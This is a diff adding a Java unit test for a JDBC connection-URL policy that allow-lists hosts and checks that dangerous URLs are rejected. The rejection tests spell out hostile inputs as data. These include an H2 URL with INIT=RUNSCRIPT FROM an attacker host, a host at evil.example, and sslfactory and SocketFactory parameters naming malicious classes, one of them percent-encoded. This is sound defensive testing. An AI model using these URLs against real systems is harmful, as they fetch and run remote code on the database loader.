@@ -0,0 +1,106 @@
+package com.itdg.generator.load;
+
+import com.itdg.common.dto.request.DbConnectionRequest;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+@DisplayName("LoadTargetPolicy 테스트")
+class LoadTargetPolicyTest {
+
+    private final LoadTargetPolicy policy = new LoadTargetPolicy(List.of("db.internal", " 10.0.0.5 "), false);
+
+    private static DbConnectionRequest target(String url, String driverClassName) {
+        return DbConnectionRequest.builder().url(url).username("loader").password("secret")
+                .driverClassName(driverClassName).build();
+    }
+
+    @Nested
+    @DisplayName("허용")
+    class Allowed {
+
+        @Test
+        @DisplayName("허용 호스트의 PostgreSQL URL은 스킴에 맞는 드라이버를 돌려준다")
+        void allowedHosts_deriveDriver() {
+            assertThat(policy.driverClassName(target("jdbc:postgresql://db.internal:5432/shop?sslmode=require",
+                    null))).isEqualTo("org.postgresql.Driver");
+            assertThat(policy.driverClassName(target("jdbc:postgresql://DB.internal,10.0.0.5:6432/shop", "")))
+                    .isEqualTo("org.postgresql.Driver");
+        }
+
+        @Test
+        @DisplayName("H2는 설정으로 켠 경우 이름만 있는 인메모리 DB만 허용한다")
+        void h2Memory_onlyWhenEnabled() {
+            LoadTargetPolicy testing = new LoadTargetPolicy(List.of(), true);
+
+            assertThat(testing.driverClassName(target("jdbc:h2:mem:load-1", null))).isEqualTo("org.h2.Driver");
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:h2:mem:load-1", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("allow-h2-memory");
+            assertThatThrownBy(() -> testing.driverClassName(target("jdbc:h2:file:/tmp/db", null)))
+                    .isInstanceOf(IllegalArgumentException.class);
+        }
+    }
+
+    @Nested
+    @DisplayName("거부")
+    class Rejected {
+
+        @Test
+        @DisplayName("H2 INIT=RUNSCRIPT, 드라이버가 없는 스킴, 설정되지 않은 호스트는 IllegalArgumentException")
+        void unsafeUrls_areRejected() {
+            LoadTargetPolicy testing = new LoadTargetPolicy(List.of(), true);
+
+            assertThatThrownBy(() -> testing.driverClassName(
+                    target("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'", null)))
+                    .isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:postgresql://evil.example/shop", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("evil.example");
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:sqlserver://db.internal", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("scheme");
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:mysql://db.internal/shop", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("scheme");
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:mariadb://db.internal/shop", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("scheme");
+            assertThatThrownBy(() -> policy.driverClassName(
+                    target("jdbc:postgresql://(host=db.internal,port=5432)/shop", null)))
+                    .isInstanceOf(IllegalArgumentException.class);
+            assertThatThrownBy(() -> policy.driverClassName(target("jdbc:postgresql://user@db.internal/shop", null)))
+                    .isInstanceOf(IllegalArgumentException.class);
+        }
+
+        @Test
+        @DisplayName("드라이버별 위험 속성은 대소문자나 퍼센트 인코딩과 관계없이 거부한다")
+        void dangerousParameters_areRejected() {
+            assertThatThrownBy(() -> policy.driverClassName(
+                    target("jdbc:postgresql://db.internal/shop?sslfactory=x.Evil", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("sslfactory");
+            assertThatThrownBy(() -> policy.driverClassName(
+                    target("jdbc:postgresql://db.internal/shop?ssl=true&SocketFactory=x.Evil", null)))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("SocketFactory");
+            assertThatThrownBy(() -> policy.driverClassName(
+                    target("jdbc:postgresql://db.internal/shop?%73ocketFactory=x.Evil", null)))
+                    .isInstanceOf(IllegalArgumentException.class);
+        }
+
+        @Test
+        @DisplayName("URL 스킴과 다른 driverClassName은 IllegalArgumentException")
+        void mismatchedDriver_isRejected() {
+            assertThatThrownBy(() -> policy.driverClassName(
+                    target("jdbc:postgresql://db.internal/shop", "com.example.EvilDriver")))
+                    .isInstanceOf(IllegalArgumentException.class)
+                    .hasMessageContaining("org.postgresql.Driver");
+        }
+    }
+}